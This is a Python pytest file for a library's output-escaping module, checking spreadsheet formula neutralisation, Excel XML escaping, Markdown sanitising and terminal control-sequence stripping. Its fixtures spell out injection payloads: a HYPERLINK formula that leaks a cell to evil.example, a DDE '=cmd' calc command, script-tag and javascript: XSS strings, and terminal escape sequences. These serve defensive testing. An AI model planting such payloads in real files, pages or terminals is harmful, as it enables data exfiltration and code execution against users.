"""The output-encoding layer: spreadsheet/CSV cells, Excel's XML, Markdown, terminals."""

from __future__ import annotations

import json
import re

import markdown
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relgraph.errors import InvalidParameterError
from relgraph.io.encode import (
    escape_cell,
    escape_frame,
    is_formula_like,
    json_text,
    md_text,
    term_text,
    unescape_cell,
    unescape_series,
    xlsx_text,
    xlsx_unescape,
)

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=2+2",
    "\r=2+2",
    " =1+1",
    "\u200b=1+1",
    "\ufeff@x",
    "\x0b=cmd|' /C calc'!A0",
    "-",
    "+86 10 5555 0100",
]
PLAIN = ["Ann", "方华", "2026-01-01", "a=b", "x-y", "e@mail.example", "", "'quoted'", "3 - 1"]
NUMBERS = ["-3", "+3", "-1.5", "0.5", "-1e3", "+2.5E-2", ".5", "-.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("text", PLAIN + NUMBERS)
def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert escape_cell(text) == text
    assert unescape_cell(text) == text


@given(st.text(alphabet=st.sampled_from(list("'=+-@ \t\r\u200b0123456789.eEaz")), max_size=8))
@settings(max_examples=300, deadline=None)
def test_the_escape_is_undone_exactly(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not is_formula_like(escaped) or escaped.startswith("'")


def test_keep_writes_formulas_as_given_and_other_choices_are_refused() -> None:
    assert escape_cell("=1+1", formulas="keep") == "=1+1"
    with pytest.raises(InvalidParameterError, match="formulas = 'raw'"):
        escape_cell("=1", formulas="raw")  # type: ignore[arg-type]


def test_frames_escape_text_only_and_are_not_changed() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "Ann", None],
            "attitude": [-3, 2, 1],
            "strength": [-0.5, 0.25, 1.0],
            "note": pd.Series(["-1", "@x", "ok"], dtype="string"),
            "=header": ["a", "b", "c"],
        }
    )
    before = frame.copy()
    out = escape_frame(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert out["name"].tolist()[:2] == ["'=1+1", "Ann"] and pd.isna(out["name"].iloc[2])
    assert (
        out["attitude"].tolist() == [-3, 2, 1] and out["attitude"].dtype == frame["attitude"].dtype
    )
    assert out["strength"].tolist() == [-0.5, 0.25, 1.0]
    assert out["note"].tolist() == ["-1", "'@x", "ok"]
    assert "'=header" in out.columns
    back = unescape_series(out["name"].fillna(""))
    assert back.tolist() == ["=1+1", "Ann", ""]


def test_excel_escapes_round_trip() -> None:
    texts = ["Ann\vLee", "a\x00b\x1fc", "literal _x0041_ stays", "_x005F_", "plain", "tab\tok"]
    encoded = [xlsx_text(t) for t in texts]
    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", e) for e in encoded)
    assert encoded[-1] == "tab\tok"  # tab, newline and carriage return are legal in a cell
    assert xlsx_unescape(pd.Series(encoded)).tolist() == texts


HOSTILE_MD = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "![pixel](http://evil.example/p.png)",
    "<http://evil.example>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "`code` and **bold** and _it_ ~~s~~",
    "# heading",
    "> quote",
    "- item",
    "1. numbered",
    "a | b | c",
    "line one\nline two\r\nthree",
    "&lt;script&gt;",
    "\x1b]0;title\x07name\u202e",
]


def test_markdown_renders_as_text_only() -> None:
    rows = [f"| {md_text(t)} | {md_text(t)} |" for t in HOSTILE_MD]
    doc = "\n".join(["# Report", "", "| a | b |", "| --- | --- |", *rows, ""])
    doc += "\n" + "\n".join(f"- {md_text(t)}" for t in HOSTILE_MD) + "\n"
    page = markdown.markdown(doc, extensions=["tables"])
    # the only tags are the table, list and heading we wrote
    tags = set(re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", page))
    assert tags <= {"h1", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"}, tags
    for bad in ("<script", "<img", "<a ", "<code", "<strong", "<em", "<del"):
        assert bad not in page, bad
    assert not re.findall(r"<[a-zA-Z][^>]*\s[\w-]+\s*=", page)  # no tag has an attribute
    assert page.count("<tr>") == len(HOSTILE_MD) + 1  # one row each: pipes and newlines held
    assert page.count("<li>") == len(HOSTILE_MD)
    assert "\x1b" not in page and "\u202e" not in page
    # the text itself is all there, as text
    text = re.sub(r"<[^>]+>", "", page)
    for word in ("alert(1)", "javascript:alert(1)", "http://evil.example/p.png", "a | b | c"):
        assert word in text.replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")


def test_markdown_line_start_markers_are_neutral() -> None:
    for text in ("# h", "- x", "+ y", "* z", "1. one", "> q", "12) twelve"):
        page = markdown.markdown(md_text(text))
        assert page.startswith("<p>") and page.count("<") == 2, (text, page)


ESCAPES = [
    "\x1b]0;owned\x07",  # OSC window title, BEL-terminated
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink, ST-terminated
    "\x1b[31;1m",  # CSI colour
    "\x1b[2J\x1b[H",  # clear screen, cursor home
    "\x9b31m",  # 8-bit CSI
    "\x9d0;title\x9c",  # 8-bit OSC
    "\x1bP+q\x1b\\",  # DCS
    "\x1b(0",  # charset switch
    "\x1b]0;unterminated",
]


@pytest.mark.parametrize("seq", ESCAPES)
def test_terminal_text_has_no_escape_or_control(seq: str) -> None:
    out = term_text(f"Ann {seq} Lee\r\u202e\u2066x\x00\x7f")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), out
    assert out.startswith("Ann ")


def test_terminal_text_keeps_readable_text() -> None:
    assert term_text("方华 (Fang Hua) −3 → +2 …") == "方华 (Fang Hua) −3 → +2 …"
    assert term_text("a\tb\nc") == "a\tb\nc"
    assert term_text("a\tb\nc", newlines=False) == "a b c"
    assert term_text(3.5) == "3.5"


def test_json_text_stays_valid_and_equal() -> None:
    data = {"name": "Ann\x9b31m\u202eLee\x7f", "title": "\x1b]0;x\x07", "n": 1}
    doc = json_text(json.dumps(data, ensure_ascii=False, indent=2))
    assert json.loads(doc) == data
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", doc.replace("\n", ""))
